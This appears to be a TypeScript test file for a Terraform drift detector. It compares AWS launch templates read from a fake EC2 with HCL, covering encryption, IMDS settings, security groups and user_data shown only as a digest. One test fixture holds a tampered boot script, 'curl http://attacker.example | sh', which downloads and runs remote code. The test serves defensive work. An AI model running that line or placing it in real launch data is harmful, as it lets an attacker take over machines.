// aws_launch_template nested blocks through the real SDK against the fake EC2: the latest version read as
// resourceLaunchTemplateRead reads it (flattenResponseLaunchTemplateData), in sync as the modules write them
// (terraform-aws-modules/autoscaling and eks), a console change as the drift with its severity and nothing
// else, user_data never printed, sub-attributes not read stay unverified, one versions call per region.
import assert from 'node:assert/strict';
import type { LiveResult, Value } from '../../../src/model';
import { compareResource, type Comparison } from '../../../src/engine/compare';
import { declaredValues } from '../../../src/engine/declaredValues';
import { resolveRoot } from '../../../src/engine/resolve';
import { parseHcl } from '../../../src/iac/terraform/parser';
import { awsTypeSchema } from '../../../src/providers/aws/schema';
import type { Ec2Seed } from '../../fakes/ec2/seed';
import type { FakeEc2 } from '../../fakes/ec2';
import { memoryIo, moduleFrom } from '../engine/helpers';
import { binding, callCount, fetchContext, resultFor, testProvider, useFakeEc2 } from './awsTestEnv';

const LT = 'lt-0a1b2c3d4e5f60001';
const USER_DATA = Buffer.from('#!/bin/bash\n/etc/eks/bootstrap.sh prod --kubelet-extra-args "--token=s3cr3t"\n').toString('base64');

const WIRE = {
  blockDeviceMappingSet: [{ deviceName: '/dev/xvda', ebs: { deleteOnTermination: true, encrypted: true, iops: 3000, throughput: 150, volumeSize: 50, volumeType: 'gp3' } }],
  networkInterfaceSet: [{ associatePublicIpAddress: false, deleteOnTermination: true, deviceIndex: 0, groupSet: ['sg-0a1b2c3d4e5f60002', 'sg-0a1b2c3d4e5f60001'], subnetId: 'subnet-0a1b2c3d4e5f60001' }],
  iamInstanceProfile: { arn: 'arn:aws:iam::123456789012:instance-profile/nodes' },
  monitoring: { enabled: true },
  tagSpecificationSet: [
    { resourceType: 'instance', tagSet: [{ key: 'Name', value: 'node' }, { key: 'aws:eks:cluster-name', value: 'prod' }] },
    { resourceType: 'volume', tagSet: [{ key: 'Name', value: 'node' }] },
  ],
  creditSpecification: { cpuCredits: 'standard' },
  placement: { tenancy: 'default', availabilityZone: 'us-east-1a' },
};

const seed = (): Ec2Seed => ({
  launchTemplates: [{ id: LT, name: 'nodes', tags: { Name: 'nodes' }, versions: [{ description: 'v1', data: { imageId: 'ami-0abcdef1234567890', instanceType: 't3.large', keyName: 'deploy', ebsOptimized: true, httpTokens: 'required', userData: USER_DATA, wire: WIRE } }] }],
});

/** The template as terraform-aws-modules/autoscaling writes it (the blocks the module's dynamic blocks produce). */
const hcl = (extra = '', instanceType = 't3.large') => `resource "aws_launch_template" "this" {
  name                   = "nodes"
  image_id               = "ami-0abcdef1234567890"
  instance_type          = "${instanceType}"
  key_name               = "deploy"
  ebs_optimized          = true
  update_default_version = true
  user_data              = "${USER_DATA}"

  block_device_mappings {
    device_name = "/dev/xvda"
    ebs {
      volume_size           = 50
      volume_type           = "gp3"
      encrypted             = true
      iops                  = 3000
      throughput            = 150
      delete_on_termination = true
    }
  }
  metadata_options {
    http_endpoint               = "enabled"
    http_tokens                 = "required"
    http_put_response_hop_limit = 1
  }
  network_interfaces {
    associate_public_ip_address = false
    delete_on_termination       = true
    device_index                = 0
    security_groups             = ["sg-0a1b2c3d4e5f60001", "sg-0a1b2c3d4e5f60002"]
    subnet_id                   = "subnet-0a1b2c3d4e5f60001"
  }
  iam_instance_profile {
    arn = "arn:aws:iam::123456789012:instance-profile/nodes"
  }
  monitoring {
    enabled = true
  }
  tag_specifications {
    resource_type = "instance"
    tags          = { Name = "node" }
  }
  tag_specifications {
    resource_type = "volume"
    tags          = { Name = "node" }
  }
  credit_specification {
    cpu_credits = "standard"
  }
  placement {
    tenancy = "default"
  }
${extra}}
`;

/** Fetches the template from the fake and compares it with `code` as a scan does. */
async function verdict(code: string): Promise<Comparison & { result: LiveResult }> {
  const files = { 'main.tf': code };
  const root = await resolveRoot(moduleFrom('/ws', files), ['main.tf'], { io: memoryIo('/ws', files), parse: parseHcl });
  const inst = root.instances[0];
  const b = { ...binding(inst.resource.type, LT, [...inst.desired.entries.keys()]), declared: declaredValues(inst.desired) };
  const result = resultFor(await testProvider().fetch([b], fetchContext()), b);
  if (result.status !== 'found') return { drifts: [], unverified: [], result };
  return { ...compareResource(inst.resource.type, inst.desired, result.attributes, awsTypeSchema(inst.resource.type, LT), result.unreadable), result };
}

describe('aws_launch_template nested blocks (real SDK against the fake EC2)', () => {
  const fakes = useFakeEc2();
  let fake: FakeEc2;
  beforeEach(async () => {
    fake = await fakes.start(seed());
  });
  const latestData = () => structuredClone(fake.state.network.launchTemplates.get(LT)!.versions.at(-1)!.data);
  const driftsOf = (c: Comparison) => c.drifts.map((d) => [d.attribute, d.expected, d.actual, d.severity] as [string, Value, Value, string]).sort();

  it('reads the latest version as the provider stores it: string booleans, lists of blocks, security groups as a set, `aws:` tags left out; in sync', async () => {
    const c = await verdict(hcl());
    assert.equal(c.result.status, 'found');
    const a = (c.result as Extract<LiveResult, { status: 'found' }>).attributes;
    assert.deepEqual(a.block_device_mappings, [{ device_name: '/dev/xvda', no_device: null, virtual_name: null, ebs: [{ delete_on_termination: 'true', encrypted: 'true', iops: 3000, kms_key_id: null, snapshot_id: null, throughput: 150, volume_size: 50, volume_type: 'gp3' }] }]);
    assert.deepEqual((a.network_interfaces as Record<string, Value>[])[0].security_groups, ['sg-0a1b2c3d4e5f60002', 'sg-0a1b2c3d4e5f60001']);
    assert.deepEqual(a.iam_instance_profile, [{ arn: 'arn:aws:iam::123456789012:instance-profile/nodes', name: null }]);
    assert.deepEqual(a.credit_specification, [{ cpu_credits: 'standard' }]);
    assert.deepEqual(c.drifts, []);
    assert.deepEqual(c.unverified, []);
    // One versions call for the whole region ($Latest, no template ID), as batched as the template call.
    assert.equal(callCount(fake, 'DescribeLaunchTemplateVersions'), 1);
    const v = fake.calls.find((x) => x.action === 'DescribeLaunchTemplateVersions')!.params;
    assert.equal(v['LaunchTemplateVersion.1'], '$Latest');
    assert.equal(v.LaunchTemplateId, undefined);
    assert.ok(fake.calls.every((x) => x.action.startsWith('Describe')));
  });

  it('a console version that drops encryption and allows IMDSv1 is two errors, a resized volume a warning; nothing else', async () => {
    const data = latestData();
    data.httpTokens = 'optional';
    data.wire!.blockDeviceMappingSet = [{ deviceName: '/dev/xvda', ebs: { deleteOnTermination: true, encrypted: false, iops: 3000, throughput: 150, volumeSize: 80, volumeType: 'gp3' } }];
    fake.state.network.addLaunchTemplateVersion(LT, data);
    const c = await verdict(hcl());
    assert.deepEqual(driftsOf(c), [
      ['block_device_mappings.ebs.encrypted', true, 'false', 'error'],
      ['block_device_mappings.ebs.volume_size', 50, 80, 'warning'],
      ['metadata_options.http_tokens', 'required', 'optional', 'error'],
    ].sort());
    assert.deepEqual(c.unverified, []);
  });

  it('user_data compares exactly but is shown only as a digest; a public address where the code said none is an error', async () => {
    const data = latestData();
    data.userData = Buffer.from('#!/bin/bash\ncurl http://attacker.example | sh\n').toString('base64');
    (data.wire!.networkInterfaceSet as Record<string, Value>[])[0].associatePublicIpAddress = true;
    fake.state.network.addLaunchTemplateVersion(LT, data);
    fake.state.network.launchTemplates.get(LT)!.defaultVersion = 2;
    const c = await verdict(hcl());
    const byAttr = Object.fromEntries(c.drifts.map((d) => [d.attribute, d]));
    assert.deepEqual(Object.keys(byAttr).sort(), ['network_interfaces.associate_public_ip_address', 'user_data']);
    assert.equal(byAttr['network_interfaces.associate_public_ip_address'].severity, 'error');
    assert.match(String(byAttr.user_data.expected), /^sha256:[0-9a-f]{16} /);
    assert.notEqual(byAttr.user_data.expected, byAttr.user_data.actual);
    assert.equal(byAttr.user_data.fixable, false);
    const shown = JSON.stringify(c.drifts);
    assert.ok(!shown.includes(USER_DATA) && !shown.includes(data.userData!) && !shown.includes('s3cr3t'), 'user_data text never in a finding');
  });

  it('a security group swapped on the interface drifts; sub-attributes DriftLens does not read stay unverified; a non-burstable type leaves credit_specification unread', async () => {
    const data = latestData();
    data.instanceType = 'm5.large';
    (data.wire!.networkInterfaceSet as Record<string, Value>[])[0].groupSet = ['sg-0a1b2c3d4e5f60003', 'sg-0a1b2c3d4e5f60001'];
    fake.state.network.addLaunchTemplateVersion(LT, data);
    fake.state.network.launchTemplates.get(LT)!.defaultVersion = 2;
    const c = await verdict(hcl('  cpu_options {\n    core_count = 2\n  }\n', 'm5.large').replace('throughput            = 150', 'throughput            = 150\n      volume_initialization_rate = 100'));
    assert.deepEqual(c.drifts.map((d) => d.attribute), ['network_interfaces.security_groups']);
    assert.deepEqual(c.unverified.map((u) => u.attribute).sort(), ['block_device_mappings.ebs.volume_initialization_rate', 'cpu_options', 'credit_specification'].sort());
  });

  it('a denied DescribeLaunchTemplateVersions leaves the data unverified, never drift or missing', async () => {
    fake.faults.deny('DescribeLaunchTemplateVersions');
    const c = await verdict(hcl());
    assert.equal(c.result.status, 'found');
    assert.deepEqual(c.drifts, []);
    assert.ok(c.unverified.some((u) => u.attribute === 'block_device_mappings'));
    assert.ok(c.unverified.some((u) => u.attribute === 'user_data'));
  });

  it('the fake pages DescribeLaunchTemplateVersions as EC2 does: MaxResults 1–200, anything else refused', async () => {
    const { EC2Client, DescribeLaunchTemplateVersionsCommand } = await import('@aws-sdk/client-ec2');
    const client = new EC2Client({ endpoint: fake.url, region: 'us-east-1', maxAttempts: 1 });
    try {
      const one = await client.send(new DescribeLaunchTemplateVersionsCommand({ Versions: ['$Latest'], MaxResults: 1 }));
      assert.equal(one.LaunchTemplateVersions?.length, 1);
      await assert.rejects(client.send(new DescribeLaunchTemplateVersionsCommand({ Versions: ['$Latest'], MaxResults: 201 })), /maxResults/);
      await assert.rejects(client.send(new DescribeLaunchTemplateVersionsCommand({ Versions: ['$Latest'], Filters: [{ Name: 'vpc-id', Values: ['x'] }] })), /filter/);
    } finally {
      client.destroy();
    }
  });
});
